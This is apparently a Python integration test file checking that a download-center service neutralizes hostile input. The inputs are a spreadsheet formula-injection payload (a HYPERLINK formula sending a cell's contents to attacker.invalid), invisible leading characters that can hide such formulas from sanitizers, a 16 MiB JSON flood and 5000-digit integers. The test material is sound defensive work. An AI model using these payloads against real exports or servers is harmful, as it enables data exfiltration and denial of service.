"""Hostile input to the download center (issue 49): cells that a spreadsheet would run, a source
page of millions of tiny rows, integers past Python's digit limit. Each as the attacker sends it:
LibreOffice opens the exported files, the web process's memory is read from /proc while a real
source server serves the page, the numbers go through a started ``downcluster web``."""
from __future__ import annotations

import csv
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.integration import test_center
from tests.integration.test_center import run, task
from tests.integration.test_download_center import _convert, _soffice
from tests.integration.test_exports import _file
from tests.integration.test_web_api import new_token
from tests.web_helpers import WebServer

fast, projects_one_to_nine = test_center.fast, test_center.projects_one_to_nine  # its fixtures, shared
LEAK = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"open")'
# what a spreadsheet may skip before it looks for a formula
LEADS = ["\x00", "\x01", "\x1f", "\x7f", "\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", " ", "\xa0",
         "\u3000", "\x00 \u200b", "\n"]


def _cells_in_libreoffice(soffice: str, path: Path, tmp_path: Path) -> list[str]:
    """Every cell of the file's first sheet as LibreOffice computes it, by its CSV export (a CSV
    file read as UTF-8, as the export writes it)."""
    utf8 = "CSV:44,34,76" if path.suffix == ".csv" else None  # 76: UTF-8
    out = _convert(soffice, path, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path / "out", utf8)
    return [cell for r in csv.reader(out.read_text(encoding="utf-8", errors="replace").splitlines())
            for cell in r]


@pytest.mark.parametrize("kind, ext", [("csv", "csv"), ("excel", "xlsx")])
def test_a_cell_behind_invisible_characters_never_runs_as_a_formula(fast, tmp_path, kind, ext):
    soffice = _soffice()
    rows = [{"n": i, "body": lead + LEAK, "sum": lead + "=1+41"} for i, lead in enumerate(LEADS)]
    done = run(_deliver(fast, kind, rows))
    assert done.state == "SUCCESS", done.error
    path = tmp_path / f"hostile.{ext}"
    path.write_bytes(_file(done.id))
    cells = _cells_in_libreoffice(soffice, path, tmp_path)
    assert "open" not in cells and "42" not in cells, cells  # HYPERLINK's result, the sum's
    assert sum("HYPERLINK" in c for c in cells) == len(LEADS)
    assert sum("=1+41" in c for c in cells) == len(LEADS)


def _deliver(fast, kind: str, rows: list[dict]):
    from master.center import service as center

    return center.deliver(fast.redis, task(type=kind, source_data=json.dumps(rows)))


# --- a page of millions of rows -------------------------------------------------------------

PAGE_MIB = 16
FLOOD = b"{}," * (PAGE_MIB * 1024 * 1024 // 3 - 1) + b"{}"  # 5.6 million empty objects
PAGES = {"rows": b'{"status": 200, "msg": "", "data": {"total": 10000000, "data": [' + FLOOD + b"]}}",
         "nested": b'{"status": 200, "msg": "", "data": {"total": 1, "data": [{"a": [' + FLOOD + b"]}]}}"}


class Flood(BaseHTTPRequestHandler):
    """A source whose every page is 16 MiB of ``{}``: as rows (/rows) or inside one row (/nested)."""

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802 (the http.server name)
        body = PAGES[self.path.split("?")[0].strip("/")]
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            pass


@pytest.fixture
def flood():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Flood)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def peak_rss_mib(pid: int) -> float:
    """The process's peak resident memory so far (VmHWM), in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


@pytest.mark.parametrize("shape", PAGES)
def test_a_page_of_millions_of_objects_costs_the_web_little_and_fails_in_one_line(fast, flood, shape):
    token = new_token("sys", "analyst", "7")
    with WebServer(fast.env) as web:
        form = {"project_id": "7", "name": "flood", "type": "csv", "step": "1000",
                "source_url": f"{flood}/{shape}"}
        small = web.call("GET", "/v1/download/sync", token,
                         params={**form, "source_data": json.dumps([{"a": 1}]), "source_url": ""})
        assert small.status_code == 200, small.text
        before = peak_rss_mib(web.proc.pid)
        got = web.call("GET", "/v1/download/sync", token, params=form)
        grew = peak_rss_mib(web.proc.pid) - before
    # the page's bytes and its text (2 x 16 MiB) and some slack; parsed whole it was 27 x the page
    assert grew < 6 * PAGE_MIB, f"the web's peak memory grew by {grew:.0f} MiB for a {PAGE_MIB} MiB page"
    objects = len(FLOOD) // 3 + 1 + {"rows": 3, "nested": 5}[shape]  # the flood and the answer's own
    # /v1 answers as the seed's center does: HTTP 200, the error's code in the envelope
    assert got.status_code == 200 and got.json()["status"] == 510 and got.json()["msg"] == (
        f"source page 0 holds {objects} objects or lists, more than 64 a row of page_size 1000"), got.text


# --- integers past the digit limit ------------------------------------------------------------

HUGE = "1" * 5000


@pytest.mark.parametrize("field, text", [
    ("source_data", f'[{{"a": {HUGE}}}]'),
    ("template", f'{{"col": [{{"name": "a", "title": "A", "width": {HUGE}}}]}}'),
    ("header", f'{{"k": {HUGE}}}'),
])
def test_an_integer_of_5000_digits_is_a_422_in_one_line(fast, field, text):
    token = new_token("sys", "analyst", "7")
    with WebServer(fast.env) as web:
        form = {"project_id": "7", "name": "huge", "type": "excel", "source_data": '[{"a": 1}]', field: text}
        body = f'{{"project_id": 7, "name": "huge", "{field}": {text}}}'  # the number as JSON, not text
        answers = [
            web.call("POST", "/v1/task", token, data=form),
            web.call("GET", "/v1/download/sync", token, params=form),
            web.call("POST", "/v1/task", token, data=body, headers={"Content-Type": "application/json"}),
            web.call("POST", "/api/v1/center/tasks", token, data=body,
                     headers={"Content-Type": "application/json"}),
        ]
        output = web._read()
    for got in answers:
        assert refused_in_one_line(got), (got.request.url, got.status_code, got.text[:300])
        assert "\n" not in got.text and len(got.text) < 1000, got.text[:300]
    assert "Traceback" not in output and "ValueError" not in output


def refused_in_one_line(got) -> bool:
    """A refusal naming the digits: 422 with {"error"} on our API, the envelope with an error code
    (HTTP 200, as the seed's center answers) on /v1."""
    if urlsplit(got.request.url).path.startswith("/v1/"):
        body = got.json()
        if got.status_code == 200:
            return body["status"] != 200 and "more than 4300 digits" in body["msg"]
    # the web's own guard may answer first (a query parameter too long): our one-line 422
    return got.status_code == 422 and ("more than 4300 digits" in got.json()["error"]
                                       or "too long" in got.json()["error"])


def test_the_csv_cell_rule_looks_past_invisible_characters():
    from common.exports.tabular import csv_cell

    spaced = {" ", "\xa0", "\u3000", "\x00 \u200b"}  # a space before the '=': text already
    for lead in LEADS:
        raw = lead + LEAK
        assert csv_cell(raw) == (raw if lead in spaced else "'" + raw), repr(lead)
    assert csv_cell("\x00") == "\x00" and csv_cell("a\x00=1") == "a\x00=1"


def test_an_integer_of_5000_digits_in_toml_or_a_template_is_a_422(fast):
    """The other parsers of text a caller gives: a manifest's TOML, a template's TOML or JSON."""
    token = new_token("dev", "user", "7")
    with WebServer(fast.env) as web:
        assert web.call("POST", "/api/v1/jobs", token, json={"manifest": 'name = "big"\n'}).status_code == 201
        answers = [
            web.call("POST", "/api/v1/jobs", token, json={"manifest": f'name = "big"\nx = {HUGE}\n'}),
            web.call("POST", "/v1/task", token, data={"project_id": "7", "name": "huge", "type": "excel",
                                                      "source_data": "[{}]", "template": f"x = {HUGE}"}),
            web.call("POST", "/api/v1/exports", token, json={"job": "big", "format": "csv",
                                                            "template": f'{{"col": {HUGE}}}'}),
        ]
        output = web._read()
    for got in answers:
        assert refused_in_one_line(got), (got.request.url, got.status_code, got.text[:300])
    assert "Traceback" not in output and "ValueError" not in output
